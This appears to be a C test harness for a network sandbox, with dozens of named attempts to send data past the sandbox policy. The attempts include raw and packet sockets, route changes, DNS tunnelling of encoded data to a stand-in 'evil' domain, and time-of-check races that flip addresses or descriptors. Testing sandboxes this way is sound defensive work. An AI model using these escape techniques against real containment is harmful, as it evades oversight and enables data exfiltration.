/*
 * Ways out of a sandbox, one a name: leak NAME. Each tries to make a packet or a
 * connection arrive where the policy of the suite lets nothing go. Run outside it succeeds, which the
 * suite proves first; what it prints and returns inside does not matter, what arrives does.
 *
 * ALLOWED is a destination the policy permits; FORBIDDEN, FORBIDDEN6 ones it does not.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_packet.h>
#include <linux/io_uring.h>
#include <linux/rtnetlink.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <net/route.h>
#include <netdb.h>
#include <netinet/in.h>
#include <netinet/ip_icmp.h>
#include <pthread.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

enum { PORT = 6600, ALLOWED_PORT = 6601 };

static const char *const allowed = "203.0.113.10", *const forbidden = "203.0.113.66",
			 *const forbidden6 = "2001:db8:1::66";
static const char payload[] = "out of the box";

union any {
	struct sockaddr sa;
	struct sockaddr_in in;
	struct sockaddr_in6 in6;
	struct sockaddr_un un;
};

static union any v4(const char *text, int port)
{
	union any a = { .in = { .sin_family = AF_INET, .sin_port = htons((uint16_t)port) } };
	inet_pton(AF_INET, text, &a.in.sin_addr);
	return a;
}

static union any v6(const char *text, int port)
{
	union any a = { .in6 = { .sin6_family = AF_INET6, .sin6_port = htons((uint16_t)port) } };
	inet_pton(AF_INET6, text, &a.in6.sin6_addr);
	return a;
}

static int say(const char *what, long rc)
{
	printf("%s: %s\n", what, rc < 0 ? strerror(errno) : "ok");
	return rc < 0;
}

static int stream(int family, union any a, socklen_t len, int flags)
{
	int s = socket(family, SOCK_STREAM | flags, 0);
	long rc = connect(s, &a.sa, len);
	if (flags)
		usleep(100000);
	if (rc == 0 || flags)
		rc = send(s, payload, sizeof(payload), MSG_NOSIGNAL);
	return say("connect", rc);
}

static int tcp4(void)
{
	return stream(AF_INET, v4(forbidden, PORT), sizeof(struct sockaddr_in), 0);
}
static int tcp4_nonblocking(void)
{
	return stream(AF_INET, v4(forbidden, PORT), sizeof(struct sockaddr_in), SOCK_NONBLOCK);
}
static int tcp6(void)
{
	return stream(AF_INET6, v6(forbidden6, PORT), sizeof(struct sockaddr_in6), 0);
}
static int tcp_mapped(void)
{
	return stream(AF_INET6, v6("::ffff:203.0.113.66", PORT), sizeof(struct sockaddr_in6), 0);
}
static int tcp_other_port(void)
{
	return stream(AF_INET, v4(allowed, PORT), sizeof(struct sockaddr_in), 0);
}
static int tcp_neighbour(void)
{
	return stream(AF_INET, v4("192.0.2.1", PORT), sizeof(struct sockaddr_in), 0);
}
static int tcp_own_address(void)
{
	return stream(AF_INET, v4("192.0.2.2", PORT), sizeof(struct sockaddr_in), 0);
}
static int loopback4(void)
{
	return stream(AF_INET, v4("127.0.0.1", PORT), sizeof(struct sockaddr_in), 0);
}
static int loopback4_other(void)
{
	return stream(AF_INET, v4("127.8.9.10", PORT), sizeof(struct sockaddr_in), 0);
}
static int loopback6(void)
{
	return stream(AF_INET6, v6("::1", PORT), sizeof(struct sockaddr_in6), 0);
}
static int loopback_mapped(void)
{
	return stream(AF_INET6, v6("::ffff:127.0.0.1", PORT), sizeof(struct sockaddr_in6), 0);
}
static int this_host4(void)
{
	return stream(AF_INET, v4("0.0.0.0", PORT), sizeof(struct sockaddr_in), 0);
}
static int this_host6(void)
{
	return stream(AF_INET6, v6("::", PORT), sizeof(struct sockaddr_in6), 0);
}

static int numeric_name(void)
{
	struct addrinfo hints = { .ai_family = AF_INET, .ai_socktype = SOCK_STREAM }, *list;
	if (getaddrinfo("3405803842", "6600", &hints, &list) != 0)
		return 1;
	int s = socket(AF_INET, SOCK_STREAM, 0);
	return say("connect", connect(s, list->ai_addr, list->ai_addrlen));
}

/* Connected to what is allowed, dissolved, connected again. */
static int dissolved(void)
{
	int s = socket(AF_INET, SOCK_STREAM, 0);
	union any a = v4(allowed, ALLOWED_PORT), none = { .sa = { .sa_family = AF_UNSPEC } };
	connect(s, &a.sa, sizeof(a.in));
	connect(s, &none.sa, sizeof(none.sa));
	a = v4(forbidden, PORT);
	return say("connect", connect(s, &a.sa, sizeof(a.in)));
}

static int fast_open(void)
{
	int s = socket(AF_INET, SOCK_STREAM, 0);
	union any a = v4(forbidden, PORT);
	return say("sendto",
		   sendto(s, payload, sizeof(payload), MSG_FASTOPEN, &a.sa, sizeof(a.in)));
}

static int fast_open_message(void)
{
	int s = socket(AF_INET, SOCK_STREAM, 0);
	union any a = v4(forbidden, PORT);
	struct iovec iov = { (void *)(uintptr_t)payload, sizeof(payload) };
	struct msghdr m = {
		.msg_name = &a, .msg_namelen = sizeof(a.in), .msg_iov = &iov, .msg_iovlen = 1
	};
	return say("sendmsg", sendmsg(s, &m, MSG_FASTOPEN));
}

static int fast_open_connect(void)
{
	int s = socket(AF_INET, SOCK_STREAM, 0), on = 1;
	union any a = v4(forbidden, PORT);
	setsockopt(s, IPPROTO_TCP, 30 /* TCP_FASTOPEN_CONNECT */, &on, sizeof(on));
	if (connect(s, &a.sa, sizeof(a.in)) < 0)
		return say("connect", -1);
	return say("send", send(s, payload, sizeof(payload), MSG_NOSIGNAL));
}

static int multipath(void)
{
	int s = socket(AF_INET, SOCK_STREAM, 262 /* IPPROTO_MPTCP */);
	union any a = v4(forbidden, PORT);
	return say("connect", connect(s, &a.sa, sizeof(a.in)));
}

static int uring_connect(void)
{
	struct io_uring_params p = { 0 };
	int ring = (int)syscall(__NR_io_uring_setup, 4, &p);
	if (ring < 0)
		return say("io_uring_setup", -1);
	char *sq = mmap(NULL, p.sq_off.array + p.sq_entries * 4, PROT_READ | PROT_WRITE, MAP_SHARED,
			ring, IORING_OFF_SQ_RING);
	struct io_uring_sqe *e = mmap(NULL, p.sq_entries * sizeof(*e), PROT_READ | PROT_WRITE,
				      MAP_SHARED, ring, IORING_OFF_SQES);
	union any a = v4(forbidden, PORT);
	memset(e, 0, sizeof(*e));
	e->opcode = IORING_OP_CONNECT;
	e->fd = socket(AF_INET, SOCK_STREAM, 0);
	e->addr = (uint64_t)(uintptr_t)&a;
	e->off = sizeof(a.in);
	*(unsigned *)(void *)(sq + p.sq_off.array) = 0;
	__atomic_store_n((unsigned *)(void *)(sq + p.sq_off.tail), 1, __ATOMIC_RELEASE);
	return say("io_uring_enter",
		   syscall(__NR_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0));
}

static int datagram(int family, int protocol, union any a, socklen_t len)
{
	int s = socket(family, SOCK_DGRAM, protocol), on = 1;
	setsockopt(s, SOL_SOCKET, SO_BROADCAST, &on, sizeof(on));
	return say("sendto", sendto(s, payload, sizeof(payload), 0, &a.sa, len));
}

static int udp4(void)
{
	return datagram(AF_INET, 0, v4(forbidden, PORT), sizeof(struct sockaddr_in));
}
static int udp6(void)
{
	return datagram(AF_INET6, 0, v6(forbidden6, PORT), sizeof(struct sockaddr_in6));
}
static int udp_mapped(void)
{
	return datagram(AF_INET6, 0, v6("::ffff:203.0.113.66", PORT), sizeof(struct sockaddr_in6));
}
static int udp_lite(void)
{
	return datagram(AF_INET, IPPROTO_UDPLITE, v4(forbidden, PORT), sizeof(struct sockaddr_in));
}
static int udp_broadcast(void)
{
	return datagram(AF_INET, 0, v4("192.0.2.255", PORT), sizeof(struct sockaddr_in));
}
static int udp_everywhere(void)
{
	return datagram(AF_INET, 0, v4("255.255.255.255", PORT), sizeof(struct sockaddr_in));
}
static int udp_loopback(void)
{
	return datagram(AF_INET, 0, v4("127.0.0.1", PORT), sizeof(struct sockaddr_in));
}
static int udp_multicast(void)
{
	return datagram(AF_INET, 0, v4("224.0.0.251", PORT), sizeof(struct sockaddr_in));
}
static int udp6_multicast(void)
{
	union any a = v6("ff02::1", PORT);
	a.in6.sin6_scope_id = if_nametoindex("h0");
	return datagram(AF_INET6, 0, a, sizeof(a.in6));
}
static int udp6_link_local(void)
{
	union any a = v6("fe80::66", PORT);
	a.in6.sin6_scope_id = if_nametoindex("h0");
	return datagram(AF_INET6, 0, a, sizeof(a.in6));
}
static int udp_unspec(void)
{
	union any a = v4(forbidden, PORT);
	a.sa.sa_family = AF_UNSPEC;
	return datagram(AF_INET, 0, a, sizeof(a.in));
}

static int udp_connected(void)
{
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	union any a = v4(forbidden, PORT);
	if (connect(s, &a.sa, sizeof(a.in)) < 0)
		return say("connect", -1);
	return say("send", send(s, payload, sizeof(payload), 0));
}

static int udp_message(void)
{
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	union any a = v4(forbidden, PORT);
	struct iovec iov = { (void *)(uintptr_t)payload, sizeof(payload) };
	struct msghdr m = {
		.msg_name = &a, .msg_namelen = sizeof(a.in), .msg_iov = &iov, .msg_iovlen = 1
	};
	return say("sendmsg", sendmsg(s, &m, 0));
}

static int send_many(unsigned before)
{
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	union any good = v4(allowed, ALLOWED_PORT), bad = v4(forbidden, PORT);
	struct iovec iov = { (void *)(uintptr_t)payload, sizeof(payload) };
	struct mmsghdr m[128] = { 0 };
	for (unsigned i = 0; i <= before; i++)
		m[i].msg_hdr = (struct msghdr){ .msg_name = i == before ? &bad : &good,
						.msg_namelen = sizeof(bad.in),
						.msg_iov = &iov,
						.msg_iovlen = 1 };
	unsigned sent = 0;
	while (sent <= before) { /* callers send the rest again */
		int n = sendmmsg(s, m + sent, before + 1 - sent, 0);
		if (n <= 0)
			return say("sendmmsg", -1);
		sent += (unsigned)n;
	}
	return say("sendmmsg", 0);
}
static int udp_many(void)
{
	return send_many(0);
}
static int udp_many_second(void)
{
	return send_many(1);
}
static int udp_many_hundredth(void)
{
	return send_many(99);
}

static int bound_device(void)
{
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	union any a = v4(forbidden, PORT);
	setsockopt(s, SOL_SOCKET, SO_BINDTODEVICE, "h0", 2);
	return say("sendto", sendto(s, payload, sizeof(payload), 0, &a.sa, sizeof(a.in)));
}

/* Loose source routing: through what is allowed to what is not. */
static int source_route(void)
{
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	union any a = v4(forbidden, PORT);
	unsigned char option[8] = { 131, 7, 4 };
	struct in_addr hop;
	inet_pton(AF_INET, "192.0.2.1", &hop);
	memcpy(option + 3, &hop, 4);
	setsockopt(s, IPPROTO_IP, IP_OPTIONS, option, sizeof(option));
	return say("sendto", sendto(s, payload, sizeof(payload), 0, &a.sa, sizeof(a.in)));
}

static int icmp(int type)
{
	struct {
		struct icmphdr h;
		char data[sizeof(payload)];
	} echo = { .h = { .type = ICMP_ECHO, .checksum = 0 } };
	uint32_t sum = 0;
	memcpy(echo.data, payload, sizeof(payload));
	for (size_t i = 0; i + 1 < sizeof(echo); i += 2)
		sum += *(uint16_t *)(void *)((char *)&echo + i);
	sum = (sum & 0xffff) + (sum >> 16);
	echo.h.checksum = (uint16_t) ~(sum + (sum >> 16));
	int s = socket(AF_INET, type, IPPROTO_ICMP);
	union any a = v4(forbidden, 0);
	return say("sendto", sendto(s, &echo, sizeof(echo), 0, &a.sa, sizeof(a.in)));
}
static int raw_icmp(void)
{
	return icmp(SOCK_RAW);
}
static int ping(void)
{
	return icmp(SOCK_DGRAM);
}

static int raw_ip(void)
{
	int s = socket(AF_INET, SOCK_RAW, 253 /* experiments */);
	union any a = v4(forbidden, 0);
	return say("sendto", sendto(s, payload, sizeof(payload), 0, &a.sa, sizeof(a.in)));
}

static int packet(void)
{
	int s = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP));
	struct sockaddr_ll to = { .sll_family = AF_PACKET,
				  .sll_protocol = htons(ETH_P_IP),
				  .sll_ifindex = (int)if_nametoindex("h0"),
				  .sll_halen = 6,
				  .sll_addr = { 255, 255, 255, 255, 255, 255 } };
	unsigned char ip[40] = { 0x45, 0, 0,   40, 0, 0, 0,   0, 64,  253,
				 0,    0, 192, 0,  2, 2, 203, 0, 113, 66 };
	uint32_t sum = 0;
	for (unsigned i = 0; i < 20; i += 2)
		sum += (uint32_t)(ip[i] << 8 | ip[i + 1]);
	sum = (sum & 0xffff) + (sum >> 16);
	ip[10] = (unsigned char)(~sum >> 8);
	ip[11] = (unsigned char)~sum;
	return say("sendto", sendto(s, ip, sizeof(ip), 0, (struct sockaddr *)&to, sizeof(to)));
}

/* A question that carries data, to @server or to whoever resolves. */
static size_t question(unsigned char *q)
{
	static const unsigned char fixed[] = { 0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0 };
	static const char *const labels[] = { "6f7574206f662074686520626f78", "tunnel", "evil",
					      "example" };
	size_t n = sizeof(fixed);
	memcpy(q, fixed, n);
	for (unsigned i = 0; i < 4; i++) {
		q[n++] = (unsigned char)strlen(labels[i]);
		memcpy(q + n, labels[i], strlen(labels[i]));
		n += strlen(labels[i]);
	}
	memcpy(q + n, "\0\0\1\0\1", 5);
	return n + 5;
}
static int dns_datagram(const char *server)
{
	unsigned char q[512];
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	union any a = v4(server, 53);
	return say("sendto", sendto(s, q, question(q), 0, &a.sa, sizeof(a.in)));
}
static int dns_other_server(void)
{
	return dns_datagram(forbidden);
}
static int dns_host_server(void)
{
	return dns_datagram("198.51.100.53");
}
static int dns_stream(const char *server)
{
	unsigned char q[514];
	size_t n = question(q + 2);
	int s = socket(AF_INET, SOCK_STREAM, 0);
	union any a = v4(server, 53);
	q[0] = 0;
	q[1] = (unsigned char)n;
	if (connect(s, &a.sa, sizeof(a.in)) < 0)
		return say("connect", -1);
	return say("send", send(s, q, n + 2, MSG_NOSIGNAL));
}
static int dns_tcp_other_server(void)
{
	return dns_stream(forbidden);
}
static int dns_tcp_host_server(void)
{
	return dns_stream("198.51.100.53");
}
static int dns_library(void)
{
	struct addrinfo hints = { .ai_family = AF_INET }, *list;
	return getaddrinfo("6f7574206f662074686520626f78.tunnel.evil.example", NULL, &hints,
			   &list) != 0;
}

static int unix_stream(const char *path)
{
	int s = socket(AF_UNIX, SOCK_STREAM, 0);
	union any a = { .un = { .sun_family = AF_UNIX } };
	size_t n = strlen(path);
	memcpy(a.un.sun_path, path, n);
	if (path[0] == '@')
		a.un.sun_path[0] = '\0';
	return say("connect", connect(s, &a.sa,
				      (socklen_t)(offsetof(struct sockaddr_un, sun_path) + n +
						  (path[0] != '@'))));
}
static int unix_abstract(void)
{
	return unix_stream("@vsandbox-leak");
}
static int unix_path(void)
{
	return unix_stream(getenv("LEAK_SOCKET"));
}
static int unix_run(void)
{
	return unix_stream(getenv("LEAK_RUN_SOCKET"));
}
static int unix_proc(void)
{
	char path[200];
	snprintf(path, sizeof(path), "/proc/self/root%.90s", getenv("LEAK_SOCKET"));
	return unix_stream(path);
}

/* A way is made by netlink, then taken. */
static int netlink_route(void)
{
	struct {
		struct nlmsghdr h;
		struct ifinfomsg i;
	} up = { .h = { .nlmsg_len = sizeof(up),
			.nlmsg_type = RTM_NEWLINK,
			.nlmsg_flags = NLM_F_REQUEST | NLM_F_ACK },
		 .i = { .ifi_index = (int)if_nametoindex("h0"),
			.ifi_flags = IFF_UP,
			.ifi_change = IFF_UP } };
	int s = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);
	struct {
		struct nlmsghdr h;
		struct nlmsgerr e;
	} answer;
	if (send(s, &up, sizeof(up), 0) < 0 || recv(s, &answer, sizeof(answer), 0) < 0 ||
	    answer.e.error)
		return 1;
	return udp4();
}
static int ioctl_route(void)
{
	struct rtentry r = { .rt_flags = RTF_UP | RTF_HOST | RTF_GATEWAY };
	union any dst = v4("203.0.113.67", 0), gw = v4("192.0.2.1", 0);
	memcpy(&r.rt_dst, &dst, sizeof(r.rt_dst));
	memcpy(&r.rt_gateway, &gw, sizeof(r.rt_gateway));
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	if (ioctl(s, SIOCADDRT, &r) < 0 && errno != EEXIST)
		return 1;
	return udp4();
}

/* The address is another when the kernel reads it: ALLOWED when judged, then FORBIDDEN. */
static union any flipping;
static bool stop;
static void *flip(void *arg)
{
	union any good = v4(allowed, ALLOWED_PORT), bad = v4(forbidden, PORT);
	(void)arg;
	while (!__atomic_load_n(&stop, __ATOMIC_RELAXED)) {
		__atomic_store_n(&flipping.in.sin_addr.s_addr, bad.in.sin_addr.s_addr,
				 __ATOMIC_RELAXED);
		__atomic_store_n(&flipping.in.sin_port, bad.in.sin_port, __ATOMIC_RELAXED);
		for (volatile int i = 0; i < 200; i++)
			;
		__atomic_store_n(&flipping.in.sin_port, good.in.sin_port, __ATOMIC_RELAXED);
		__atomic_store_n(&flipping.in.sin_addr.s_addr, good.in.sin_addr.s_addr,
				 __ATOMIC_RELAXED);
		for (volatile int i = 0; i < 200; i++)
			;
	}
	return NULL;
}
static unsigned tries(void)
{
	const char *n = getenv("LEAK_TRIES");
	return n ? (unsigned)atoi(n) : 10000;
}
static int flipped(int type)
{
	pthread_t t;
	unsigned met = 0, good = 0;
	flipping = v4(allowed, ALLOWED_PORT);
	pthread_create(&t, NULL, flip, NULL);
	for (unsigned i = 0; i < tries(); i++) {
		int s = socket(AF_INET, type, 0);
		if (connect(s, &flipping.sa, sizeof(flipping.in)) == 0) {
			union any peer;
			socklen_t len = sizeof(peer);
			getpeername(s, &peer.sa, &len);
			met += peer.in.sin_addr.s_addr == v4(forbidden, 0).in.sin_addr.s_addr;
			good++;
			if (type == SOCK_DGRAM)
				send(s, payload, sizeof(payload), MSG_DONTWAIT);
		}
		close(s);
	}
	__atomic_store_n(&stop, true, __ATOMIC_RELAXED);
	pthread_join(t, NULL);
	printf("%u connected, %u to the forbidden\n", good, met);
	return good == 0;
}
static int flip_tcp(void)
{
	return flipped(SOCK_STREAM);
}
static int flip_udp(void)
{
	return flipped(SOCK_DGRAM);
}
static int flip_message(void)
{
	pthread_t t;
	flipping = v4(allowed, ALLOWED_PORT);
	pthread_create(&t, NULL, flip, NULL);
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	struct iovec iov = { (void *)(uintptr_t)payload, sizeof(payload) };
	struct msghdr m = { .msg_name = &flipping,
			    .msg_namelen = sizeof(flipping.in),
			    .msg_iov = &iov,
			    .msg_iovlen = 1 };
	for (unsigned i = 0; i < tries(); i++)
		sendmsg(s, &m, MSG_DONTWAIT);
	__atomic_store_n(&stop, true, __ATOMIC_RELAXED);
	pthread_join(t, NULL);
	return 0;
}

/* The descriptor is another socket when the call goes on. */
static int swap_fds[2], swap_at;
static void *swap(void *arg)
{
	(void)arg;
	while (!__atomic_load_n(&stop, __ATOMIC_RELAXED)) {
		dup2(swap_fds[0], swap_at);
		dup2(swap_fds[1], swap_at);
	}
	return NULL;
}
static int swap_fd(void)
{
	pthread_t t;
	union any a = v4(forbidden, PORT);
	swap_fds[0] = socket(AF_INET, SOCK_STREAM, 0);
	swap_fds[1] = socket(AF_INET, SOCK_DGRAM, 0);
	swap_at = dup(swap_fds[0]);
	pthread_create(&t, NULL, swap, NULL);
	for (unsigned i = 0; i < tries(); i++) {
		union any to = i % 2 ? v4(allowed, ALLOWED_PORT) : a;
		connect(swap_at, &to.sa, sizeof(to.in));
		send(swap_at, payload, sizeof(payload), MSG_DONTWAIT | MSG_NOSIGNAL);
	}
	__atomic_store_n(&stop, true, __ATOMIC_RELAXED);
	pthread_join(t, NULL);
	return 0;
}

/*
 * A connected socket, which may be one of the host's network, is at the number when the kernel makes the call
 * that was decided for another: dissolved, then connected elsewhere.
 */
static int swap_connected(void)
{
	pthread_t t;
	const struct sockaddr none = { .sa_family = AF_UNSPEC };
	union any good = v4(allowed, ALLOWED_PORT), bad = v4(forbidden, PORT);
	swap_fds[0] = socket(AF_INET, SOCK_STREAM, 0);
	if (connect(swap_fds[0], &good.sa, sizeof(good.in)) < 0)
		return say("connect", -1);
	swap_fds[1] = socket(AF_INET, SOCK_STREAM, 0);
	fcntl(swap_fds[1], F_SETFL, O_NONBLOCK);
	swap_at = dup(swap_fds[1]);
	flipping = good;
	pthread_create(&t, NULL, swap, NULL);
	for (unsigned i = 0; i < tries(); i++) {
		connect(swap_at, &none, sizeof(none));
		/* to our own loopback: what needs no decision */
		union any here = v4("127.0.0.1", PORT);
		connect(swap_at, &here.sa, sizeof(here.in));
		connect(swap_at, &bad.sa, sizeof(bad.in));
		listen(swap_at, 1);
	}
	__atomic_store_n(&stop, true, __ATOMIC_RELAXED);
	pthread_join(t, NULL);
	return 0;
}

static const struct {
	const char *name;
	int (*run)(void);
	bool root; /* outside only root succeeds */
} attacks[] = {
#define A(name) \
	{ \
#name, name, false \
	}
#define R(name) \
	{ \
#name, name, true \
	}
	A(tcp4),
	A(tcp4_nonblocking),
	A(tcp6),
	A(tcp_mapped),
	A(tcp_other_port),
	A(tcp_neighbour),
	A(tcp_own_address),
	A(loopback4),
	A(loopback4_other),
	A(loopback6),
	A(loopback_mapped),
	A(this_host4),
	A(this_host6),
	A(numeric_name),
	A(dissolved),
	A(fast_open),
	A(fast_open_message),
	A(fast_open_connect),
	A(multipath),
	A(uring_connect),
	A(udp4),
	A(udp6),
	A(udp_mapped),
	A(udp_lite),
	A(udp_broadcast),
	A(udp_everywhere),
	A(udp_loopback),
	A(udp_multicast),
	A(udp6_multicast),
	A(udp6_link_local),
	A(udp_unspec),
	A(udp_connected),
	A(udp_message),
	A(udp_many),
	A(udp_many_second),
	A(udp_many_hundredth),
	A(bound_device),
	A(source_route),
	R(raw_icmp),
	A(ping),
	R(raw_ip),
	R(packet),
	A(dns_other_server),
	A(dns_host_server),
	A(dns_tcp_other_server),
	A(dns_tcp_host_server),
	A(dns_library),
	A(unix_abstract),
	A(unix_path),
	A(unix_run),
	A(unix_proc),
	R(netlink_route),
	R(ioctl_route),

	A(flip_tcp),
	A(flip_udp),
	A(flip_message),
	A(swap_fd),
	A(swap_connected),
};

int main(int argc, char **argv)
{
	size_t count = sizeof(attacks) / sizeof(attacks[0]);
	for (size_t i = 0; argc == 1 && i < count; i++)
		printf("%s%s\n", attacks[i].name, attacks[i].root ? " root" : "");
	for (size_t i = 0; argc == 2 && i < count; i++)
		if (strcmp(attacks[i].name, argv[1]) == 0)
			return attacks[i].run();
	return argc == 1 ? 0 : 2;
}
